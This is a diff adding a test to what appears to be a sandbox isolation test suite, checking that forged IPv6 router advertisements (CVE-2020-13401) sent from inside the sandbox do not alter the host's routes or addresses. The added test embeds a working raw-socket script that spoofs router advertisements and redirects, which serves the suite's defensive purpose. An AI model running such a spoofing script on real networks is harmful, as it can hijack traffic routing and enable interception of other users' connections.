@@ -195,6 +195,45 @@ def _read(path: str) -> str:
         return file.read()
 
 
+SPEAK_AS_A_ROUTER = """
+import socket, struct
+out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+out.bind(("eth0", 0x86DD))
+own = out.getsockname()[4]
+source, everybody = socket.inet_pton(10, "fe80::1"), socket.inet_pton(10, "ff02::1")
+def say(message):
+    data = source + everybody + struct.pack("!II", len(message), 58) + message
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    message = message[:2] + struct.pack("!H", ~total & 0xFFFF) + message[4:]
+    ip = struct.pack("!IHBB", 6 << 28, len(message), 58, 255) + source + everybody
+    out.send(b"\\x33\\x33\\0\\0\\0\\1" + own + b"\\x86\\xdd" + ip + message)
+prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + socket.inet_pton(10, "2001:db8:bad::")
+say(struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0) + prefix)
+say(struct.pack("!BBHI", 137, 0, 0, 0) + everybody + everybody)
+say(struct.pack("!BBHHH", 128, 0, 0, 1, 1))
+"""
+
+
+def test_a_step_that_speaks_as_a_router(bench: Bench) -> None:
+    """CVE-2020-13401. The machine neither believes it nor lets it in; of the three messages only the ping is let in."""
+    bench.sh("true", network="default")
+    bridge = bench.sandbox._networks.bridge
+    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as listener:
+        listener.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, bridge.encode())
+        listener.settimeout(10)
+        bench.python(SPEAK_AS_A_ROUTER, network="default")
+        seen = [listener.recv(1 << 10)[0]]
+        while seen[-1] != 128:
+            seen.append(listener.recv(1 << 10)[0])
+    assert not {134, 137} & set(seen)
+    for words in (["-6", "route", "show", "table", "all"], ["-6", "address"]):
+        assert "2001:db8:bad:" not in subprocess.run(["ip", *words], capture_output=True, text=True, check=True).stdout
+    with open("/proc/net/if_inet6", encoding="ascii") as file:
+        assert not [line for line in file if bridge in line and line.startswith("fe80")]
+
+
 def test_ways_outside_are_found(tmp_path: Path) -> None:
     none, any_ = "0" * 32, "fd" + "0" * 30
     routes, addresses = tmp_path / "routes", tmp_path / "addresses"
